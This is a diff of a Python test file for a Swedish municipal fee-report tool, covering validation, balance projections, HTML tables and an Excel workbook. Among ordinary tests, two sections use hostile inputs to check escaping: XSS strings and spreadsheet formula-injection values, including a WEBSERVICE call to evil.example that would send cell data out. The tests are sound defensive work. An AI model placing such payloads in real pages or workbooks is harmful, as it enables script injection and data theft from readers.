@@ -1,8 +1,11 @@
-"""Tests of the report helpers in kuanalysis.fees (avgifter-2025, kommunblad, the workbook)
+"""Tests of the fee report (kuanalysis.reports.fees), the workbook (kuanalysis.reports.xlsx)
 and the chart functions they use. Expected values are worked out by hand in the comments."""
 from __future__ import annotations
 
+import io
 import math
+import re
+import shutil
 
 import matplotlib
 import numpy as np
@@ -10,15 +13,24 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from kuanalysis import charts, fees
-from kuanalysis.table import Table
+import fees_fixtures as F
+from kuanalysis import publish
+from kuanalysis.checks.findings import Finding
+from kuanalysis.checks.rules import RULES
+from kuanalysis.data.table import Table
+from kuanalysis.errors import ParameterError, ScenarioError
+from kuanalysis.fees.balance import balance_overview
+from kuanalysis.fees.keys import IMPLIED_KEY, key_vs_population
+from kuanalysis.fees.scenarios import FEE_COLUMNS, PostSpec, Scenario
+from kuanalysis.paths import scenarios_dir
+from kuanalysis.reports import charts, fees, html, xlsx
 
 matplotlib.use("Agg")  # tests only; notebooks keep the inline backend
 
 
 def lines(rows):
     """A fees frame in the ``kuanalysis fees`` contract from (scenario, kod, kommun, post, kr, fakt)."""
-    return pd.DataFrame(rows, columns=fees.FEE_COLUMNS)
+    return pd.DataFrame(rows, columns=FEE_COLUMNS)
 
 
 # Two scenarios, two municipalities, two posts.
@@ -36,37 +48,85 @@ FEES = lines([
 ])
 
 
+def cells(markup: str, tag: str = "td") -> list[str]:
+    """The texts of every ``<tag>`` in markup, in order."""
+    return re.findall(rf"<{tag}[^>]*>(.*?)</{tag}>", markup)
+
+
+def row_of(markup: str, label: str) -> list[str]:
+    """The data cells of the table row whose header cell is ``label``."""
+    m = re.search(rf'<tr><th scope="row">{re.escape(label)}</th>(.*?)</tr>', markup)
+    assert m, f"ingen rad {label!r}"
+    return cells(m.group(1))
+
+
+@pytest.fixture
+def report():
+    return F.report()
+
+
 # ---------------------------------------------------------------------------------------
-# File names and variants
+# Loading: the shipped data, and parameters that do not fit
 # ---------------------------------------------------------------------------------------
-@pytest.mark.parametrize("name, slug", [
-    ("Jönköping", "jonkoping"), ("Värnamo", "varnamo"), ("Sävsjö", "savsjo"),
-    ("Eksjö", "eksjo"), ("Aneby", "aneby"), ("Kval.arb öppen fritid", "kval-arb-oppen-fritid"),
+def test_fee_report_loads_the_shipped_data():
+    r = fees.FeeReport.load()
+    assert [s.name for s in r.scenarios][0] == "forslag-2025" and len(r.scenarios) == 5
+    assert len(r.fees) == 5 * 13 * 16 and list(r.fees.columns) == FEE_COLUMNS
+    assert r.date == "2024-12-31"
+    shown = publish.collect_sources(r.inputs)
+    assert "scenarios/avtal.yaml" in shown
+    assert "data/raw/002-pks-2016/pks-2016-social-valfard.csv" in shown
+    assert "data/raw/000-pks-2024/finansiering-2025.yaml" in shown
+    assert not any("ovriga" in p for p in shown)  # read only what the report uses
+
+
+def test_fee_report_refuses_bad_paths_and_dates_together():
+    with pytest.raises(ParameterError) as exc:
+        fees.FeeReport.load(scenarier="finns-inte", befolkningsdatum="2024-12-31")
+    assert exc.value.errors == [
+        "parametern scenarier: finns-inte finns inte i projektet",
+        "parametern befolkningsdatum ska se ut som befolkning_2024_12_31, fick '2024-12-31'"]
+    with pytest.raises(ParameterError, match="befolkning_1999_12_31 finns inte"):
+        fees.FeeReport.load(befolkningsdatum="befolkning_1999_12_31")
+    with pytest.raises(ParameterError, match="saknar tabellen pks-2016-social-valfard"):
+        fees.FeeReport.load(historik="data/raw/000-pks-2024")
+
+
+def test_fee_report_needs_the_proposal(tmp_path):
+    shutil.copy(scenarios_dir() / "avtal.yaml", tmp_path / "avtal.yaml")
+    with pytest.raises(ScenarioError, match="forslag-2025.yaml saknas"):
+        fees.FeeReport.load(scenarier=str(tmp_path))
+
+
+@pytest.mark.parametrize("values, message", [
+    ({"balanskonto_kr": -1, "excelfil": "a.xlsx"}, "balanskonto_kr"),
+    ({"balanskonto_kr": True, "excelfil": "a.xlsx"}, "balanskonto_kr"),
+    ({"balanskonto_kr": 1.5, "excelfil": "a.xlsx"}, "balanskonto_kr"),
+    ({"balanskonto_kr": 0, "excelfil": "../a.xlsx"}, "excelfil"),
+    ({"balanskonto_kr": 0, "excelfil": "a.csv"}, "excelfil"),
 ])
-def test_ascii_slug(name, slug):
-    assert fees.ascii_slug(name) == slug
+def test_check_parameters_refuses(values, message):
+    with pytest.raises(ParameterError, match=message):
+        fees.check_parameters(**values)
 
 
-def test_kommunblad_variants_one_per_municipality():
-    variants = fees.kommunblad_variants({"kommun_kod": "0680"})
-    assert len(variants) == 13
-    assert variants[0] == {"parameters": {"kommun_kod": "0604"},
-                           "output": "kommunblad/0604-aneby.html",
-                           "title": "Kommunblad Aneby: avgifter 2025"}
-    jkp = [v for v in variants if v["parameters"]["kommun_kod"] == "0680"]
-    assert jkp[0]["output"] == "kommunblad/0680-jonkoping.html"
-    assert jkp[0]["title"] == "Kommunblad Jönköping: avgifter 2025"
-    assert all(v["output"].isascii() for v in variants)
-    codes = [v["parameters"]["kommun_kod"] for v in variants]
-    assert codes == sorted(codes) and len(set(codes)) == 13
+def test_check_parameters_accepts_the_defaults():
+    assert fees.check_parameters(balanskonto_kr=20_500_000, excelfil="avgifter-2025.xlsx") is None
 
 
-def test_kommunblad_variants_selection_and_unknown_code():
-    chosen = fees.kommunblad_variants({"kommuner": "0686, 0604"})
-    assert [v["output"] for v in chosen] == ["kommunblad/0686-eksjo.html",
-                                            "kommunblad/0604-aneby.html"]
-    with pytest.raises(ValueError, match="okända kommunkoder 9999"):
-        fees.kommunblad_variants({"kommuner": "0604,9999"})
+def test_population_date():
+    assert fees.population_date("befolkning_2024_12_31") == "2024-12-31"
+    with pytest.raises(ValueError):
+        fees.population_date("2024-12-31")
+
+
+def test_allocate_all_stacks_the_scenarios(report):
+    out = fees.allocate_all(F.scenarios(), F.matrix(), F.population())
+    # 2 scenarios x 2 posts x 2 municipalities; alt's MEDLEM 50/50 of 1 000
+    assert len(out) == 8 and list(out.columns) == FEE_COLUMNS
+    alt = out[(out["scenario"] == "alt") & (out["post"] == F.MEDLEM)]
+    assert alt["belopp_kr"].tolist() == [500, 500]
+    assert list(fees.allocate_all([], F.matrix(), F.population()).columns) == FEE_COLUMNS
 
 
 # ---------------------------------------------------------------------------------------
@@ -96,6 +156,13 @@ def test_comparison_by_post_and_difference():
         fees.scenario_comparison(FEES, by="år")
 
 
+def test_nonzero_keeps_what_differs():
+    frame = pd.DataFrame({"a": [0, 0, 0], "b": [0, 5, 0], "c": [1, 0, 0]}, index=["x", "y", "z"])
+    # column a is all zero; row z is all zero
+    assert fees.nonzero(frame).to_dict() == {"b": {"x": 0, "y": 5}, "c": {"x": 1, "y": 0}}
+    assert list(fees.nonzero(frame, rows=False).index) == ["x", "y", "z"]
+
+
 def test_share_against_population():
     pop = pd.DataFrame({"kommun_kod": ["0001", "0002"], "befolkning_2024_12_31": [300, 100]})
     s = fees.share_vs_population(FEES, pop)
@@ -110,19 +177,10 @@ def test_share_against_population():
 # ---------------------------------------------------------------------------------------
 # History
 # ---------------------------------------------------------------------------------------
-def _by_year(name, order, values, total):
-    codes = {"X": "0001", "Y": "0002"}
-    meta = {"table": name, "document": "test.txt", "kind": "amount_by_kommun", "unit": "tkr",
-            "columns": [{"label": "2016", "key": "ar_2016"}, {"label": "2018", "key": "ar_2018"}],
-            "rows": [{"label": k, "role": "kommun", "kommun_kod": codes[k]} for k in order]
-            + [{"label": "Summa", "role": "total"}]}
-    return Table.from_rows(meta, {**dict(zip(order, values)), "Summa": total})
-
-
 def test_history_matches_by_code_keeps_printed_totals_and_blanks():
     # Social printed X, Y; administration printed Y, X (other order); a blank in 2016.
-    social = _by_year("soc", ["X", "Y"], [[10, 20], [30, 40]], [40, 61])   # 61: printed, not 60
-    admin = _by_year("adm", ["Y", "X"], [[None, 5], [1, 2]], [1, 7])
+    social = F._by_year("soc", ["X", "Y"], [[10, 20], [30, 40]], [40, 61])   # 61: printed
+    admin = F._by_year("adm", ["Y", "X"], [[None, 5], [1, 2]], [1, 7])
     meta = {"table": "m", "document": "t.txt", "kind": "fee_matrix", "unit": "kr",
             "columns": [{"label": "Grundfinansiering Social välfärd", "key": "g"},
                         {"label": "Medlemsavgift Kommunal utveckling", "key": "m"},
@@ -146,13 +204,13 @@ def test_history_matches_by_code_keeps_printed_totals_and_blanks():
 # Balance account
 # ---------------------------------------------------------------------------------------
 def _scenario(name, from_balance_kr):
-    posts = {"A": fees.PostSpec("A", from_balance_kr, fees.IMPLIED_KEY, False, None,
-                                from_balance_kr > 0, 1)}
-    return fees.Scenario(name, f"{name}.yaml", "prov", posts)
+    posts = {"A": PostSpec("A", from_balance_kr, IMPLIED_KEY, False, None,
+                           from_balance_kr > 0, 1)}
+    return Scenario(name, f"{name}.yaml", "prov", posts)
 
 
 def test_balance_overview_runway():
-    closing, summary = fees.balance_overview(
+    closing, summary = balance_overview(
         [_scenario("tar", 9_000_000), _scenario("tar-inte", 0)], years=range(2025, 2028))
     # 20,5 mnkr − 9 − 10 (2025 payout) = 1,5; then −7,5; then −16,5
     assert closing["tar"].tolist() == [1_500_000, -7_500_000, -16_500_000]
@@ -163,6 +221,12 @@ def test_balance_overview_runway():
     assert summary.loc["tar", "från_balanskonto_kr"] == 9_000_000
 
 
+def test_runs_out_and_balance_start():
+    assert fees.runs_out(2026, 2034) == "2026"
+    assert fees.runs_out(None, 2034) == "inte före 2035"
+    assert fees.balance_start(20_500_000) == "20,5\u00a0mnkr"
+
+
 def test_group_identical_columns():
     frame = pd.DataFrame({"a": [1, 2], "b": [1, 3], "c": [1, 2]})
     g = fees.group_identical_columns(frame)
@@ -171,20 +235,209 @@ def test_group_identical_columns():
 
 
 # ---------------------------------------------------------------------------------------
+# Findings: counted, listed
+# ---------------------------------------------------------------------------------------
+def _finding(rule, status, row="r", column="c", table="t"):
+    return Finding(rule, "d", table, row, column, None, None, None, status, "s")
+
+
+def test_findings_overview_counts_and_sentences():
+    o = fees.findings_overview([
+        _finding("fee_row_total", "avrundning"), _finding("fee_not_summed", "oklar"),
+        _finding("fee_row_total", "avrundning"), _finding("fee_row_total", "avvikelse")])
+    # the registry's order: fee_not_summed before fee_row_total
+    assert o["Antal"].tolist() == [1, 2, 1]
+    assert o["Kontroll"].iloc[0] == RULES["fee_not_summed"].sentence
+    assert o["Kontroll"].iloc[0].startswith("Posten står i tabellen men ingår inte i kolumnen")
+    # the status meanings are the registry's (checks/rules.py), one text for every report
+    assert o["Status"].tolist()[1:] == ["avrundning: skillnaden ryms i avrundningen, inget fel",
+                                        "avvikelse: fel som inte förklaras av avrundning"]
+
+
+def test_findings_frame_orders_by_rule_then_table_position():
+    t = F.matrix()
+    found = [_finding("fee_row_total", "avrundning", "Y", "Summa", t.id),
+             _finding("fee_not_summed", "oklar", "Summa", F.GRUND, t.id),
+             _finding("fee_row_total", "avvikelse", "X", "Summa", t.id),
+             _finding("ambiguity", "oklar", "X", "", t.id),
+             _finding("fee_row_total", "avvikelse", "X", "Summa", "annan-tabell")]
+    frame, marks = fees.findings_frame(found, t)
+    # ambiguity comes before the fee rules in the registry; rows X before Y as in the table
+    assert frame[["Rad", "Kolumn", "Status"]].values.tolist() == [
+        ["X", "", "oklar"], ["Summa", F.GRUND, "oklar"], ["X", "Summa", "avvikelse"],
+        ["Y", "Summa", "avrundning"]]
+    assert frame["Tryckt"].isna().all()  # nothing to compare: blank, never 0
+    assert marks["Status"].tolist() == frame["Status"].tolist()
+    assert (marks.drop(columns="Status") == "").all().all()
+
+
+def test_findings_of_the_tiny_proposal(report):
+    # the Summa column adds up MEDLEM only: GRUND (100 kr) is shown but not summed
+    assert [(f.rule, f.column, f.reported) for f in report.findings] == [
+        ("fee_not_summed", F.GRUND, 100)]
+    summary = fees.findings_summary(report)
+    assert cells(summary) == [RULES["fee_not_summed"].sentence,
+                              "oklar: oklart, behöver förklaras", "1"]
+    assert cells(fees.findings_list(report)) == ["Summa", F.GRUND, "100\u00a0kr", "–", "–",
+                                                 "oklar"]
+
+
+# ---------------------------------------------------------------------------------------
+# Keys against population
+# ---------------------------------------------------------------------------------------
+def test_key_vs_population_two_groups():
+    meta = {"table": "m", "document": "t.txt", "kind": "fee_matrix", "unit": "kr",
+            "columns": [{"label": "A", "key": "a"}, {"label": "B", "key": "b"},
+                        {"label": "Summa", "key": "summa", "role": "total"}],
+            "rows": [{"label": "X", "role": "kommun", "kommun_kod": "0001"},
+                     {"label": "Y", "role": "kommun", "kommun_kod": "0002"},
+                     {"label": "Summa", "role": "total"}]}
+    # A splits 70/30, B only X (Y blank). Population 2023: 60/40, 2024: 75/25.
+    matrix = Table.from_rows(meta, {"X": [70, 50, 120], "Y": [30, None, 30],
+                                    "Summa": [100, 50, 150]})
+    pop = pd.DataFrame({"kommun_kod": ["0001", "0002"], "befolkning_2023_12_31": [60, 40],
+                        "befolkning_2024_12_31": [75, 25]})
+    summary, dev = key_vs_population(matrix, pop)
+    # A: 2023 off by 10 pp, 2024 off by 5 pp -> 2024, 5 pp; X 70 − 75 = −5, Y 30 − 25 = +5
+    assert summary.loc["Nyckel 1"].tolist() == ["A", 2, "2024-12-31", pytest.approx(5.0)]
+    assert dev.loc["0001", "Nyckel 1"] == pytest.approx(-5.0)
+    assert dev.loc["0002", "Nyckel 1"] == pytest.approx(5.0)
+    # B: only X takes part: 100 % against 100 % of the participants' population
+    assert summary.loc["Nyckel 2", "Kommuner"] == 1
+    assert dev.loc["0001", "Nyckel 2"] == pytest.approx(0.0)
+    assert math.isnan(dev.loc["0002", "Nyckel 2"])
+
+
+def test_key_panels_and_key_sections(report):
+    # MEDLEM 600/400 against population 75/25: X −15 pp, Y +15 pp; GRUND 70/30: −5, +5.
+    # 0,6 − 0,7 is far beyond 1/1 000 + 1/100: two groups of one post each.
+    groups = [[F.MEDLEM], [F.GRUND]]
+    summary, dev = key_vs_population(report.matrix, report.population, groups)
+    panels = fees.key_panels(summary, dev, groups)
+    assert list(panels) == ["Nyckel 1\n1 post, mot 2024-12-31", "Nyckel 2\n1 post, mot 2024-12-31"]
+    assert panels["Nyckel 1\n1 post, mot 2024-12-31"].tolist() == [pytest.approx(-15),
+                                                                   pytest.approx(15)]
+    table = fees.key_groups_table(report)
+    assert row_of(table, "Nyckel 1") == [F.MEDLEM, "2", "2024-12-31", "15,00\u00a0procentenheter"]
+    assert row_of(table, "Nyckel 2")[-1] == "5,00\u00a0procentenheter"
+    axes = fees.key_chart(report)
+    assert [ax.get_title(loc="left") for ax in axes] == list(panels)
+    assert [t.get_text() for t in axes[0].get_yticklabels()] == ["X", "Y"]
+
+
+# ---------------------------------------------------------------------------------------
+# The sections of avgifter-2025 on the tiny report
+# ---------------------------------------------------------------------------------------
+def test_key_figures(report):
+    boxes = fees.key_figures(report, 20_500_000)
+    assert isinstance(boxes, html.Markup)
+    # invoiced 1 000 kr = 0,0 mnkr; GRUND not summed: 1 of 2 posts; the proposal takes
+    # 100 kr a year: 20,5 mnkr − 10 mnkr − 100 kr stays above zero to 2034; one alternative
+    assert cells(boxes, "b") == ["0,0\u00a0mnkr", "1 av 2", "inte före 2035", "1"]
+
+
+def test_scenario_list_and_descriptions(report):
+    frame = fees.scenario_descriptions(report.scenarios)
+    assert frame.values.tolist() == [["forslag-2025", "Förslaget."], ["alt", "Ett alternativ."]]
+    assert cells(fees.scenario_list(report)) == ["forslag-2025", "Förslaget.", "alt",
+                                                 "Ett alternativ."]
+
+
+def test_comparison_and_difference_tables(report):
+    # invoiced: forslag X 600, Y 400; alt X 500 + 70 = 570, Y 500 + 30 = 530
+    by_kommun = fees.comparison_table(report)
+    assert 'id="per-kommun"' in by_kommun
+    assert row_of(by_kommun, "X") == ["600\u00a0kr", "570\u00a0kr"]
+    assert row_of(fees.comparison_table(report, by="post"), F.GRUND) == ["0\u00a0kr", "100\u00a0kr"]
+    diff = fees.difference_table(report)
+    assert row_of(diff, "X") == ["\u221230\u00a0kr"] and row_of(diff, "Y") == ["+130\u00a0kr"]
+    # by post only the posts that differ: MEDLEM (1 000 in both) is left out
+    by_post = fees.difference_table(report, by="post")
+    assert 'id="per-post-skillnad"' in by_post
+    assert cells(by_post, "th")[2:] == [F.GRUND, "Summa"]
+
+
+def test_difference_chart(report):
+    ax = fees.difference_chart(report)
+    # X −30 kr, Y +130 kr, in tkr
+    assert [b.get_width() for b in ax.patches] == [pytest.approx(-0.03), pytest.approx(0.13)]
+    only_proposal = fees.FeeReport(F.matrix(), F.population(), F.history(), F.scenarios()[:1])
+    assert fees.difference_chart(only_proposal) is None
+
+
+def test_shares_table(report):
+    table = fees.shares_table(report)
+    assert "Folkmängd 2024-12-31" in cells(table, "th")
+    # X: 300 of 400 people; 600 of 1 000 kr; 570 of 1 100 kr = 51,82 %
+    assert row_of(table, "X") == ["75,00\u00a0%", "60,00\u00a0%", "51,82\u00a0%"]
+
+
+def test_balance_table_and_chart(report):
+    # forslag takes GRUND's 100 kr a year; alt takes nothing
+    table = fees.balance_table(report, 20_500_000)
+    assert row_of(table, "forslag-2025") == ["100\u00a0kr", "inte före 2035"]
+    assert row_of(table, "alt") == ["0\u00a0kr", "inte före 2035"]
+    # 10 000 050 − 10 000 000 (2025 payout) − 100 = −50: below zero in 2025
+    assert row_of(fees.balance_table(report, 10_000_050), "forslag-2025")[1] == "2025"
+    ax = fees.balance_chart(report, 10_000_050)
+    assert ax.get_title(loc="left") == "Balanskontot vid årets slut 2025–2034 (mnkr)"
+    assert [line.get_label() for line in ax.get_lines()[:2]] == ["forslag-2025", "alt"]
+
+
+def test_history_section(report):
+    table = fees.history(report)
+    # X: social 10 / 20, GRUND 70 kr = 0 tkr; administration 1 / 2 (printed second); MEDLEM
+    # 600 kr = 1 tkr. Y: administration 2016 blank
+    assert row_of(table, "X") == ["10", "20", "0", "1", "2", "1"]
+    assert row_of(table, "Y")[3] == "–"
+
+
+def test_workbook_link(report):
+    assert fees.workbook_link(report, "avgifter-2025.xlsx") == (
+        '<p><a href="avgifter-2025.xlsx">Ladda ner avgifter-2025.xlsx</a> (3 blad).</p>')
+
+
+# ---------------------------------------------------------------------------------------
+# Hostile names and descriptions never become markup
+# ---------------------------------------------------------------------------------------
+SCRIPT = "<script>alert(1)</script>"
+IMG_NAME = "<img src=x onerror=alert(1)>"
+IMG_DESCRIPTION = '<img src="https://evil.example/x.png"> Som förslaget.'
+
+
+def test_hostile_names_and_descriptions_are_text_in_every_section():
+    r = F.report(x_name=SCRIPT, alt_name=IMG_NAME, alt_description=IMG_DESCRIPTION)
+    shown = html.join([
+        fees.key_figures(r, 20_500_000), fees.findings_summary(r), fees.findings_list(r),
+        fees.key_groups_table(r), fees.scenario_list(r), fees.comparison_table(r),
+        fees.difference_table(r), fees.comparison_table(r, by="post"),
+        fees.difference_table(r, by="post"), fees.shares_table(r),
+        fees.balance_table(r, 20_500_000), fees.history(r)])
+    assert "<script" not in shown and "<img" not in shown
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
+    assert "&lt;img src=x onerror=alert(1)&gt;" in shown
+    assert "&lt;img src=&quot;https://evil.example/x.png&quot;&gt; Som förslaget." in shown
+
+
+# ---------------------------------------------------------------------------------------
 # Workbook
 # ---------------------------------------------------------------------------------------
-def test_write_xlsx(tmp_path):
-    scen = [fees.Scenario("forslag-2025", "f.yaml", "Förslaget.", {}),
-            fees.Scenario("alt", "a.yaml", "Ett alternativ.", {})]
-    path = fees.write_xlsx(tmp_path / "ut" / "avgifter-2025.xlsx", FEES, scen)
-    assert [p.name for p in (tmp_path / "ut").iterdir()] == ["avgifter-2025.xlsx"]  # no temp
-    wb = load_workbook(path)
+def _scenarios():
+    return [Scenario("forslag-2025", "f.yaml", "Förslaget.", {}),
+            Scenario("alt", "a.yaml", "Ett alternativ.", {})]
+
+
+def test_workbook(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    data = xlsx.workbook(FEES, _scenarios())
+    assert isinstance(data, bytes) and list(tmp_path.iterdir()) == []  # nothing written
+    wb = load_workbook(io.BytesIO(data))
     assert wb.sheetnames == ["Jämförelse", "forslag-2025", "alt"]
     cmp_ = wb["Jämförelse"]
     # header on row 3: Kommun, forslag-2025, alt; X on row 4: 60 and 57 (see FEES)
     assert [c.value for c in cmp_[3]][:3] == ["Kommun", "forslag-2025", "alt"]
     assert [c.value for c in cmp_[4]][:3] == ["X", 60, 57]
-    assert cmp_["B4"].number_format == fees.XLSX_KR
+    assert cmp_["B4"].number_format == xlsx.XLSX_KR
     # the differences block: header after the 3 rows + a blank line; X: 57 − 60 = −3
     diff_rows = {r[0].value: [c.value for c in r[1:2]] for r in cmp_.iter_rows(min_row=8)}
     assert diff_rows["X"] == [-3] and diff_rows["Summa"] == [10]
@@ -197,6 +450,75 @@ def test_write_xlsx(tmp_path):
     found = [c.value for c in s["A"] if isinstance(c.value, str) and c.value.startswith("Fakt")]
     assert found == ["Faktureras inte: B"]
     assert s.column_dimensions["A"].width >= 14
+
+
+def test_scenario_sheet():
+    frame, not_invoiced = xlsx.scenario_sheet(FEES[FEES["scenario"] == "forslag-2025"])
+    # X: A 60, B 7, invoiced 60 (B not invoiced); Summa: A 100, B 10, invoiced 100
+    assert frame.loc["X"].tolist() == [60, 7, 60]
+    assert frame.loc["Summa"].tolist() == [100, 10, 100]
+    assert list(frame.columns) == ["A", "B", "Fakturerat"] and not_invoiced == ["B"]
+
+
+def test_sheet_title():
+    assert xlsx.sheet_title("a/b:c[d]*e?f\\g") == "a-b-c-d--e-f-g"
+    assert len(xlsx.sheet_title("x" * 40)) == 31
+
+
+FORMULAS = ['=WEBSERVICE("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A2)",
+            "\t=1+1", "\r=1+1", "=1+1"]
+
+
+def test_put_text_never_writes_a_formula(tmp_path):
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    for i, text in enumerate(FORMULAS, 1):
+        xlsx.put_text(ws, i, 1, text)
+    xlsx.put_text(ws, len(FORMULAS) + 1, 1, "klocka\x07")   # a character xlsx cannot hold
+    xlsx.put_number(ws, len(FORMULAS) + 2, 1, 3.0, xlsx.XLSX_KR)
+    wb.save(tmp_path / "t.xlsx")
+    again = load_workbook(tmp_path / "t.xlsx")
+    cells_ = [again.active.cell(i, 1) for i in range(1, len(FORMULAS) + 1)]
+    # XML reads a carriage return as a line feed; otherwise every text is kept as it was
+    assert [c.value for c in cells_] == [t.replace("\r", "\n") for t in FORMULAS]
+    assert {c.data_type for c in cells_} == {"s"}
+    assert all(c.quotePrefix for c in cells_)
+    assert again.active.cell(len(FORMULAS) + 1, 1).value == "klocka\ufffd"
+    number = again.active.cell(len(FORMULAS) + 2, 1)
+    assert (number.value, number.data_type, number.number_format) == (3, "n", xlsx.XLSX_KR)
+    import zipfile
+    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_workbook_hostile_texts_stay_text(tmp_path):
+    evil = '=WEBSERVICE("https://evil.example/")'
+    fees_ = FEES.assign(kommun=FEES["kommun"].replace({"X": "=1+1"}),
+                        post=FEES["post"].replace({"A": "@A"}),
+                        scenario=FEES["scenario"].replace({"alt": "-alt"}))
+    data = xlsx.workbook(fees_, [Scenario("-alt", "a.yaml", evil, {})])
+    (tmp_path / "w.xlsx").write_bytes(data)
+    wb = load_workbook(tmp_path / "w.xlsx")
+    texts = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert {c.data_type for c in texts} == {"s"}
+    values = {c.value for c in texts}
+    assert {evil, "=1+1", "@A", "-alt",
+            "Scenario -alt: avgift per kommun och post 2025, kr"} <= values
+    assert wb["-alt"]["A2"].value == evil
+
+
+def test_workbook_is_byte_identical_once_the_renderer_stamps_it(tmp_path):
+    import time
+    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
+    first.write_bytes(xlsx.workbook(FEES, _scenarios()[:1]))
+    time.sleep(2.1)  # zip entry times have a two-second resolution
+    second.write_bytes(xlsx.workbook(FEES, _scenarios()[:1]))
+    for f in (first, second):
+        xlsx._make_reproducible(f, "2024-10-25 08:00")
+    assert first.read_bytes() == second.read_bytes()
+    assert load_workbook(second).properties.created.year == 2024
 
 
 # ---------------------------------------------------------------------------------------
@@ -221,44 +543,8 @@ def test_lines_draws_series_and_zero_line():
 
 
 # ---------------------------------------------------------------------------------------
-# Plain-Swedish findings, keys against population, one municipality's sheet
+# One municipality's sheet
 # ---------------------------------------------------------------------------------------
-def test_findings_overview_counts_and_sentences():
-    def f(check, status):
-        return fees.Finding("d", "t", "r", "c", check, None, None, None, status, "s")
-
-    o = fees.findings_overview([f("radsumma", "avrundning"), f("summa_utan_post", "oklar"),
-                                f("radsumma", "avrundning"), f("radsumma", "avvikelse")])
-    # order of CHECK_SENTENCES: summa_utan_post before radsumma
-    assert o["Antal"].tolist() == [1, 2, 1]
-    assert o["Kontroll"].iloc[0] == fees.CHECK_SENTENCES["summa_utan_post"]
-    assert o["Status"].tolist()[1:] == ["avrundning: avrundning till hela kronor, inget fel",
-                                        "avvikelse: fel som inte förklaras av avrundning"]
-
-
-def test_key_vs_population_two_groups():
-    meta = {"table": "m", "document": "t.txt", "kind": "fee_matrix", "unit": "kr",
-            "columns": [{"label": "A", "key": "a"}, {"label": "B", "key": "b"},
-                        {"label": "Summa", "key": "summa", "role": "total"}],
-            "rows": [{"label": "X", "role": "kommun", "kommun_kod": "0001"},
-                     {"label": "Y", "role": "kommun", "kommun_kod": "0002"},
-                     {"label": "Summa", "role": "total"}]}
-    # A splits 70/30, B only X (Y blank). Population 2023: 60/40, 2024: 75/25.
-    matrix = Table.from_rows(meta, {"X": [70, 50, 120], "Y": [30, None, 30],
-                                    "Summa": [100, 50, 150]})
-    pop = pd.DataFrame({"kommun_kod": ["0001", "0002"], "befolkning_2023_12_31": [60, 40],
-                        "befolkning_2024_12_31": [75, 25]})
-    summary, dev = fees.key_vs_population(matrix, pop)
-    # A: 2023 off by 10 pp, 2024 off by 5 pp -> 2024, 5 pp; X 70 − 75 = −5, Y 30 − 25 = +5
-    assert summary.loc["Nyckel 1"].tolist() == ["A", 2, "2024-12-31", pytest.approx(5.0)]
-    assert dev.loc["0001", "Nyckel 1"] == pytest.approx(-5.0)
-    assert dev.loc["0002", "Nyckel 1"] == pytest.approx(5.0)
-    # B: only X takes part: 100 % against 100 % of the participants' population
-    assert summary.loc["Nyckel 2", "Kommuner"] == 1
-    assert dev.loc["0001", "Nyckel 2"] == pytest.approx(0.0)
-    assert math.isnan(dev.loc["0002", "Nyckel 2"])
-
-
 def test_kommun_fees_marks_posts_not_invoiced():
     k = fees.kommun_fees(FEES, "0001")
     assert list(k.columns) == ["forslag-2025", "alt"]
@@ -270,11 +556,14 @@ def test_kommun_fees_marks_posts_not_invoiced():
         fees.kommun_fees(FEES, "0680")
 
 
-def test_write_xlsx_is_byte_identical_for_the_same_inputs(tmp_path, monkeypatch):
-    monkeypatch.setenv("KUANALYSIS_GENERATED_AT", "2024-10-25 08:00")
-    scen = [fees.Scenario("forslag-2025", "f.yaml", "Förslaget.", {})]
-    first = fees.write_xlsx(tmp_path / "a.xlsx", FEES, scen).read_bytes()
-    import time
-    time.sleep(2.1)  # zip entry times have a two-second resolution
-    assert fees.write_xlsx(tmp_path / "b.xlsx", FEES, scen).read_bytes() == first
-    assert load_workbook(tmp_path / "b.xlsx").properties.created.year == 2024
+def test_a_check_that_could_not_run_is_said(report, monkeypatch):
+    from kuanalysis.checks import runner
+
+    def broken(table):
+        raise RuntimeError("trasig")
+
+    monkeypatch.setitem(runner.CHECKS, "fee_matrix", broken)
+    shown = fees.findings_list(report)
+    # no finding, and no silent zero: the box names the check and the error
+    assert cells(shown) == []
+    assert "Följande kontroller kunde inte köras" in shown and "RuntimeError: trasig" in shown
